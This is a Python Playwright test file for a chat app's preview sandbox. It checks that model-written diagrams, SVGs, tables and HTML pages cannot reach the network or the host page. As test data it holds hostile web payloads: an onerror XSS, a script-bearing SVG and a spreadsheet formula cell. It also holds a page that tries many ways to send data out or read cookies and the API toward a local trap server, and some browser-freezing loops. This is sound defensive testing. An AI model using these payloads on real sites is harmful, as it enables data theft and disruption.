"""What models write as diagrams, images and pages is shown, and reaches nothing from where it is shown."""

import csv
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, Page, expect

from tests.browser.conftest import NARROW, PATIENCE_MS
from tests.browser.test_access import violations
from tests.browser.test_parts import new_conversation
from tests.browser.test_talking import done, log, say
from tests.serving import Server
from threadkeep.testing import Gate, Say, ScriptedModel, UseTool, Wait

DIAGRAM = """```mermaid
flowchart LR
  A[Question] --> B["<img src=x onerror='alert(1)'> Answer"]
  click A href "https://threadkeep.invalid"
```"""


def fenced(language: str, code: str) -> str:
    return f"```{language}\n{code}\n```"


def figure(page: Page, name: str) -> Locator:
    return page.get_by_role("figure", name=name)


def inside(figure: Locator) -> FrameLocator:
    return figure.frame_locator("iframe")


class Trap:
    """A machine that notices whoever calls it, by TCP or UDP."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.web = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self.stun = f"stun:127.0.0.1:{self._udp.getsockname()[1]}"
        for watch in (self._accept, self._receive):
            threading.Thread(target=watch, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            with connection:
                self.calls.append(f"TCP {connection.recv(200)!r}")

    def _receive(self) -> None:
        while True:
            try:
                self.calls.append(f"UDP {self._udp.recv(200)!r}")
            except OSError:
                return

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    """A machine that nobody may call."""
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture
def hostile(browser: Browser, server: Server) -> Iterator[Page]:
    """The page for content that makes the browser complain, with reason."""
    context = browser.new_context(base_url=server.url, locale="en-GB", extra_http_headers=server.headers)
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    page.goto("/")
    yield page
    context.close()


def show(page: Page, model: ScriptedModel, text: str) -> None:
    model.script([Say(text)])
    say(page, "Show me")
    done(page)


def test_diagram_is_drawn_once_it_is_complete(page: Page, model: ScriptedModel):
    gate = Gate()
    start, end = DIAGRAM.rsplit("\n", 1)
    model.script([Say(f"Here:\n\n{start}"), Wait(gate), Say(f"\n{end}\n\nThat is all.")])
    say(page, "Draw")
    expect(log(page)).to_contain_text("flowchart LR")
    expect(figure(page, "Diagram")).to_have_count(0)
    gate.open()
    diagram = figure(page, "Diagram")
    expect(inside(diagram).get_by_role("img", name="Diagram")).to_be_visible()
    done(page)
    # By keyboard: its code, and back; then the larger view, which Escape closes.
    code = diagram.get_by_role("button", name="Code")
    code.press("Enter")
    expect(diagram.locator("pre")).to_contain_text("flowchart LR")
    diagram.get_by_role("button", name="Preview").press("Enter")
    expect(inside(diagram).get_by_role("img", name="Diagram")).to_be_visible()
    larger = diagram.get_by_role("button", name="Larger view")
    larger.press("Enter")
    dialog = page.get_by_role("dialog", name="Diagram")
    expect(inside(dialog).get_by_role("img")).to_be_visible()
    assert violations(page) == []
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    expect(larger).to_be_focused()


def test_broken_diagram_shows_its_source_and_the_reason(page: Page, model: ScriptedModel):
    page.set_viewport_size(NARROW)  # pyright: ignore[reportArgumentType]
    show(page, model, fenced("mermaid", "flowchart LR\n  A[Question --> B"))
    diagram = figure(page, "Diagram")
    expect(diagram.get_by_role("alert")).to_contain_text("This diagram can’t be drawn")
    expect(diagram.get_by_role("alert")).to_contain_text("line 3")
    expect(diagram.locator("pre").last).to_contain_text("A[Question --> B")
    assert violations(page) == []


def test_image_is_shown_without_what_it_would_run(page: Page, model: ScriptedModel):
    script = "<script>top.postMessage(1, '*')</script>"
    show(page, model, fenced("svg", f'<svg viewBox="0 0 40 20">{script}<rect width="40" height="20"/></svg>'))
    image = inside(figure(page, "Image")).get_by_role("img")
    expect(image).to_be_visible()
    assert image.evaluate("it => it.naturalWidth / it.naturalHeight") == 2


def test_table_is_saved_for_spreadsheets_and_shown_larger(page: Page, model: ScriptedModel, tmp_path: Path):
    show(page, model, "| City | Tide |\n|---|---|\n| Porto, PT | =1+1 |\n| Łódź | – |")
    expect(log(page)).to_contain_text("2 rows")
    with page.expect_download() as saving:
        page.get_by_role("button", name="Download as CSV").click()
    saving.value.save_as(tmp_path / saving.value.suggested_filename)
    saved = (tmp_path / "table.csv").read_text("utf-8-sig")
    assert list(csv.reader(saved.splitlines())) == [
        ["City", "Tide"],
        ["Porto, PT", "'=1+1"],
        ["Łódź", "–"],
    ]
    page.get_by_role("button", name="Larger view").click()
    expect(page.get_by_role("dialog", name="Table").get_by_role("cell", name="Łódź")).to_be_visible()
    assert violations(page) == []


def attacks(trap: Trap) -> str:
    """A page that tries every way out that we know."""
    url = f"http://{trap.web}"
    rules = {"prefetch": [{"urls": [f"{url}/rules"], "eagerness": "immediate"}]}
    peer = (
        f"const peer = new RTCPeerConnection({{iceServers: [{{urls: '{trap.stun}'}}]}});"
        "peer.createDataChannel('x'); peer.createOffer().then((it) => peer.setLocalDescription(it));"
    )
    framed = f"<script>{peer}<\\/script>"
    return f"""<!doctype html>
<link rel=preconnect href="{url}"><link rel=prefetch href="{url}/prefetch">
<link rel=stylesheet href="{url}/css">
<link rel=modulepreload href="{url}/preload"><script type=speculationrules>{json.dumps(rules)}</script>
<style>@import "{url}/import"; body {{ background: url({url}/background) }}</style>
<iframe src="{url}/frame"></iframe><iframe srcdoc="{framed.replace(chr(92), "")}"></iframe>
<div><template shadowrootmode=open><iframe srcdoc="{framed.replace(chr(92), "")}"></iframe></template></div>
<object data="{url}/object"></object><embed src="{url}/embed"><img src="{url}/image"><video src="{url}/video">
</video><script src="{url}/script"></script><form action="{url}/form" target=_top><input name=a></form>
<h1>Shown</h1><p></p>
<script>
const attempts = [
  () => fetch("{url}/fetch").catch(() => 0),
  () => navigator.sendBeacon("{url}/beacon"),
  () => new WebSocket("ws://{trap.web}/socket"),
  () => new EventSource("{url}/events"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('{url}/worker')"]))),
  () => import("{url}/module").catch(() => 0),
  () => document.forms[0].submit(),
  () => open("{url}/window"),
  () => (top.location = "{url}/top"),
  () => top.document,
  () => document.cookie,
  () => localStorage.length,
  () => fetch("/api/me").then(() => top.postMessage("read the API", "*"), () => 0),
  () => {{ {peer} }},
  () => document.body.append(Object.assign(document.createElement("iframe"), {{ srcdoc: `{framed}` }})),
  () => document.querySelector("p").attachShadow({{ mode: "closed" }}).append(
    Object.assign(document.createElement("iframe"), {{ srcdoc: `{framed}` }})),
  () => alert(1),
];
const refused = attempts.map((it) => {{ try {{ it(); return 0 }} catch (error) {{ return 1 }} }});
document.body.dataset.refused = refused.join("");
</script>"""


def test_page_of_a_model_reaches_nothing(hostile: Page, model: ScriptedModel, trap: Trap):
    asked: list[str] = []
    hostile.context.on("request", lambda it: asked.append(it.url) if "/api/me" in it.url else None)
    popups: list[Page] = []
    hostile.context.on("page", lambda it: popups.append(it))
    show(hostile, model, fenced("html", attacks(trap)))
    asked.clear()
    web_page = figure(hostile, "Web page")
    expect(web_page.locator("iframe")).to_have_count(0)  # it runs only if one wants to see it
    address = hostile.url
    web_page.get_by_role("button", name="Preview").click()
    expect(inside(web_page).get_by_role("heading", name="Shown")).to_be_visible()
    blocked = web_page.get_by_role("status")
    expect(blocked).to_contain_text("Previews have no network. Blocked: ")
    expect(blocked).to_contain_text(trap.web)
    body = inside(web_page).locator("body")
    # The window, the top, its document, cookies, storage and connections to peers are refused at once.
    refused = body.get_attribute("data-refused") or ""
    assert [refused[at] for at in (8, 9, 10, 11, 13)] == ["1"] * 5
    expect(inside(web_page).locator("iframe, object, embed")).to_have_count(0)
    assert body.evaluate("self.origin") == "null"
    hostile.wait_for_timeout(1500)  # whatever goes out goes out now
    assert trap.calls == []
    assert hostile.url == address
    assert popups == []


def test_page_of_a_model_cannot_take_its_frame_elsewhere(hostile: Page, model: ScriptedModel, trap: Trap):
    refresh = f'<meta http-equiv=refresh content="0;url=http://{trap.web}/refresh">'
    script = f"<script>setTimeout(() => {{ location = 'http://{trap.web}/script' }}, 300)</script>"
    show(hostile, model, fenced("html", f"{refresh}<p>Here</p>{script}"))
    web_page = figure(hostile, "Web page")
    web_page.get_by_role("button", name="Preview").click()
    # It says nothing any more, so it is closed.
    expect(web_page.get_by_role("alert")).to_contain_text("stopped responding")
    assert trap.calls == []


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("while (true);", "stopped responding"),
        (
            "setInterval(() => { for (let i = 0; i < 100; i++) top.postMessage('x'.repeat(1e4), '*') })",
            "too busy",
        ),
        ("while (true) document.body.append('more'.repeat(1e4))", "stopped responding"),
    ],
    ids=["loop", "flood", "growth"],
)
def test_page_that_misbehaves_is_closed_and_ours_works_on(
    hostile: Page, model: ScriptedModel, script: str, reason: str
):
    show(hostile, model, fenced("html", f"<p>Here</p><script>{script}</script>"))
    web_page = figure(hostile, "Web page")
    web_page.get_by_role("button", name="Preview").click()
    hostile.get_by_role("textbox", name="Message").fill("I can still write")
    expect(web_page.get_by_role("alert")).to_contain_text(reason)
    expect(web_page.locator("iframe")).to_have_count(0)
    expect(web_page.get_by_role("button", name="Try again")).to_be_visible()


def test_file_of_a_tool_is_shown_too(page: Page, model: ScriptedModel):
    new_conversation(page)
    model.script([UseTool("easel__plan", {})], [Say("Here is the plan.")])
    say(page, "Draw a plan")
    done(page)
    page.get_by_role("button", name="Preview").click()
    image = inside(page.get_by_role("dialog", name="plan.svg")).get_by_role("img")
    expect(image).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Preview")).to_be_focused()
